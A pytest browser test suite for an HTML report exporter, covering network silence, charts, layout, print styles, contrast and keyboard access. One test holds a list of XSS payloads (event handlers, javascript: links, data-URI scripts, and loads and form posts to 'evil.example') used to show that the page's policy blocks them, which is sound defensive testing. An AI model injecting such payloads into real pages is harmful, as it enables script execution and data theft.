"""The finished HTML report in a real browser: what it shows, asks for, runs and prints."""

from __future__ import annotations

import importlib.util
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from pmkit.export.html import export_html

pytestmark = pytest.mark.browser

CHROMIUM = shutil.which("chromium")


def _builder() -> ModuleType:
    path = Path(__file__).parents[1] / "export" / "report_builder.py"
    spec = importlib.util.spec_from_file_location("report_builder_for_browser", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


builder = _builder()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Chromium, without a sandbox: CI runs as root."""
    sync_api = pytest.importorskip("playwright.sync_api")
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine")
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The full report, its charts drawn by the built-in engine."""
    folder = tmp_path_factory.mktemp("report")
    return export_html(builder.write(folder / "report.ipynb", builder.full_report()))


@pytest.fixture(scope="module")
def drawn(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same report without live charts: quick to open."""
    folder = tmp_path_factory.mktemp("drawn")
    return export_html(builder.write(folder / "report.ipynb", builder.full_report()), live=False)


class Visit:
    """One page that is open, with what it asked for and complained about."""

    def __init__(self, browser: Any, path: Path, **options: Any) -> None:
        self.context = browser.new_context(**{"viewport": {"width": 1400, "height": 900}} | options)
        self.page = self.context.new_page()
        self.requests: list[str] = []
        self.complaints: list[str] = []
        self.address = path.as_uri()
        self.context.route("**/*", self._answer)
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", lambda dialog: dialog.dismiss())
        self.page.goto(self.address)

    def _answer(self, route: Any) -> None:
        if route.request.url == self.address:
            route.continue_()
        else:
            self.requests.append(route.request.url)
            route.abort()

    def wait_for_charts(self) -> Visit:
        self.page.wait_for_selector("html[data-charts=ready]", timeout=30_000)
        return self

    def __enter__(self) -> Visit:
        return self

    def __exit__(self, *error: object) -> None:
        self.context.close()


def test_the_page_is_quiet_and_asks_for_nothing(browser, report):
    """No request leaves the page and the console stays empty, with live charts and all."""
    with Visit(browser, report).wait_for_charts() as visit:
        visit.page.mouse.wheel(0, 20_000)
        visit.page.hover("figure .live >> nth=0")
        assert visit.requests == []
        assert visit.complaints == []


def test_live_charts_stand_in_place_of_their_drawings(browser, report):
    """Plotly's marks are visible; the drawings are not, on a screen with scripts."""
    with Visit(browser, report).wait_for_charts() as visit:
        marks = visit.page.locator(".live .scatterlayer .point, .live .barlayer .point path")
        assert marks.count() >= 70
        assert marks.first.is_visible()
        assert visit.page.locator("svg.static:visible").count() == 0


def test_hovering_tells_the_value(browser, report):
    """A chart is alive: pointing at a mark shows its words, which the policy allows."""
    with Visit(browser, report).wait_for_charts() as visit:
        visit.page.locator(".live .scatterlayer .point").first.scroll_into_view_if_needed()
        box = visit.page.locator(".live .scatterlayer .point").first.bounding_box()
        visit.page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        visit.page.wait_for_selector(".live .hovertext", timeout=5_000)


def test_without_scripts_the_drawings_are_there(browser, report):
    """Every chart is visible as a drawing, and the words are all there."""
    with Visit(browser, report, java_script_enabled=False) as visit:
        assert visit.page.locator("svg.static:visible").count() == 2
        assert visit.page.locator("svg.static .point:visible").count() >= 40
        assert visit.page.locator("h2:visible").count() >= 18
        assert visit.requests == []


def test_print_shows_the_drawings(browser, report):
    """On paper the drawings stand in for the live charts, after scripts ran as well."""
    with Visit(browser, report).wait_for_charts() as visit:
        visit.page.emulate_media(media="print")
        assert visit.page.locator("svg.static:visible").count() == 2
        assert visit.page.locator(".live:visible").count() == 0
        assert visit.page.locator(".skip:visible").count() == 0


def test_no_width_scrolls_sideways(browser, report, drawn):
    """The page itself never scrolls sideways; charts scroll inside their own frame."""
    with Visit(browser, report, viewport={"width": 420, "height": 800}).wait_for_charts() as visit:
        assert visit.page.evaluate("document.documentElement.scrollWidth") == 420
        frames = visit.page.evaluate(
            "[...document.querySelectorAll('.canvas')].map(c => [c.clientWidth, c.scrollWidth])"
        )
        assert all(seen <= 420 < whole for seen, whole in frames)
    with Visit(browser, drawn) as visit:
        for width in (320, 420, 600, 719, 720, 900, 1099, 1100, 1400, 1900):
            visit.page.set_viewport_size({"width": width, "height": 800})
            assert visit.page.evaluate("document.documentElement.scrollWidth") <= width, width


def test_tables_stack_on_a_phone(browser, drawn):
    """At 420 px a row is a small card whose cells carry their column's name."""
    with Visit(browser, drawn, viewport={"width": 420, "height": 800}) as visit:
        cell = visit.page.locator("td[data-label='What happened']").first
        assert cell.is_visible()
        assert cell.bounding_box()["width"] > 300
        said = cell.evaluate("cell => getComputedStyle(cell, '::before').content")
        assert said == '"What happened"'


def test_the_contents_stay_in_view_on_a_wide_screen(browser, drawn):
    """At 1400 px the contents are beside the text however far one reads, and mark the place."""
    with Visit(browser, drawn) as visit:
        visit.page.locator("#decisions").scroll_into_view_if_needed()
        visit.page.evaluate("document.querySelector('#decisions').scrollIntoView()")
        nav = visit.page.locator("nav.contents")
        assert 0 <= nav.bounding_box()["y"] < 100
        visit.page.wait_for_selector("nav a.here[href='#decisions']", timeout=5_000)


def test_no_payload_runs(browser, report):
    """Seventeen payloads, each in every place a report has: none runs, none is a link or a form."""
    assert len(builder.INJECTIONS) >= 12
    with Visit(browser, report).wait_for_charts() as visit:
        assert visit.page.evaluate("window.__x") is None
        counts = visit.page.evaluate(
            """() => ({
              on: [...document.querySelectorAll('*')].filter(
                e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
              js: [...document.querySelectorAll('a')].filter(a => a.protocol === 'javascript:').length,
              odd: document.querySelectorAll('iframe, object, embed, form, input, base').length,
              meta: document.querySelectorAll('meta[http-equiv]').length,
            })"""
        )
        assert counts == {"on": 0, "js": 0, "odd": 0, "meta": 1}
        assert visit.requests == []


@pytest.mark.parametrize(
    "payload",
    [
        "<script>window.__x=1</script>",
        "<img src=data:image/png;base64,AAAA onerror=window.__x=1>",
        "<svg onload=window.__x=1></svg>",
        "<svg><script>window.__x=1</script></svg>",
        "<details open ontoggle=window.__x=1>x</details>",
        "<input autofocus onfocus=window.__x=1>",
        "<iframe srcdoc='<script>top.__x=1</script>'></iframe>",
        "<script src='data:text/javascript,window.__x=1'></script>",
        "<script src='https://evil.example/x.js'></script>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<img src=https://evil.example/x.png>",
        "<video src=https://evil.example/x.mp4 autoplay></video>",
        "<object data='data:text/html,<script>top.__x=1</script>'></object>",
        "<base href=https://evil.example/>",
        "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/b)}</style>",
        "<a id=go href='javascript:window.__x=1'>go</a>",
        "<form id=send action=https://evil.example/><button>x</button></form>",
        "<script type=module>window.__x=1</script>",
    ],
)
def test_the_policy_stops_what_the_escaping_would_have_missed(browser, drawn, tmp_path, payload):
    """A payload written straight into the finished page neither runs nor reaches the network."""
    page = drawn.read_text("utf-8")
    broken = tmp_path / "broken.html"
    broken.write_text(page.replace("</main>", f"{payload}</main>", 1), encoding="utf-8")
    with Visit(browser, broken) as visit:
        if "id=go" in payload:
            visit.page.evaluate("document.getElementById('go').click()")
        if "id=send" in payload:
            visit.page.evaluate("document.getElementById('send').submit()")
        visit.page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")
        assert visit.page.evaluate("window.__x") is None
        assert visit.requests == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_words_stand_out_from_their_paper(browser, drawn, scheme):
    """Every text of the page has a contrast of at least 4.5 to 1, in light and in dark."""
    with Visit(browser, drawn, color_scheme=scheme) as visit:
        worst = visit.page.evaluate(CONTRAST)
        assert worst["ratio"] >= 4.5, worst


CONTRAST = """() => {
  const parse = c => { const m = c.match(/[\\d.]+/g).map(Number); return m.length > 3 ? m : [...m, 1]; };
  const linear = v => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
  const light = ([r, g, b]) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
  const paper = e => { for (; e; e = e.parentElement) {
    const c = parse(getComputedStyle(e).backgroundColor);
    if (c[3] > 0.99) return c; }
    return [255, 255, 255, 1]; };
  let worst = { ratio: 99, text: '' };
  for (const e of document.querySelectorAll('body *:not(svg *):not(script):not(.skip)')) {
    const own = [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim());
    if (!own || !e.checkVisibility() || e.closest('.live') || e.closest('.markup')) continue;
    const [a, b] = [light(parse(getComputedStyle(e).color)), light(paper(e))].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < worst.ratio) worst = { ratio, text: e.textContent.trim().slice(0, 60), tag: e.className };
  }
  return worst;
}"""


def test_a_reader_with_a_keyboard_can_skip_the_contents(browser, drawn):
    """The first stop of the Tab key leads to the report."""
    with Visit(browser, drawn) as visit:
        visit.page.keyboard.press("Tab")
        assert visit.page.evaluate("document.activeElement.textContent") == "Skip to the report"
        visit.page.keyboard.press("Enter")
        assert visit.page.evaluate("document.activeElement.id") == "report"


@pytest.mark.parametrize("width", [1400, 390])
def test_a_letter_is_one_column_as_wide_as_text_may_be(browser, tmp_path, width):
    """Without contents beside it, no sentence is squeezed into the place where they would be."""
    notebook = builder.full_report()
    notebook["metadata"]["pmkit"]["contents"] = False
    letter = export_html(builder.write(tmp_path / "letter.ipynb", notebook), live=False)
    with Visit(browser, letter, viewport={"width": width, "height": 900}) as visit:
        room, text = visit.page.evaluate(
            "[innerWidth, Math.max(...[...document.querySelectorAll('main p')].map(p => p.offsetWidth))]"
        )
    assert text >= min(640, 0.85 * room)


def test_a_printed_page_has_tables(browser, drawn):
    """A4 is as narrow as a small screen, and rows stay rows on it."""
    with Visit(browser, drawn, viewport={"width": 680, "height": 900}) as visit:
        visit.page.emulate_media(media="print")
        shown = visit.page.evaluate(
            "[...new Set([...document.querySelectorAll('.table td')].map(c => getComputedStyle(c).display))]"
        )
    assert shown == ["table-cell"]
